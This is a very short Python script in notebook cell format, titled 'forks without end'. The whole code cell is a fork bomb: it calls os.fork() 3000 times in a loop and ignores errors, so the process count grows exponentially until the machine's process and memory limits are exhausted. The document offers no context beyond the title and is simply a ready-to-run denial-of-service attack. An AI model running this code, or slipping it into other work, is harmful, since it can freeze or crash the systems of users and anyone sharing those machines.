# %% [markdown]
# forks without end

# %% end
import os

for _ in range(3000):
    try:
        os.fork()
    except OSError:
        pass
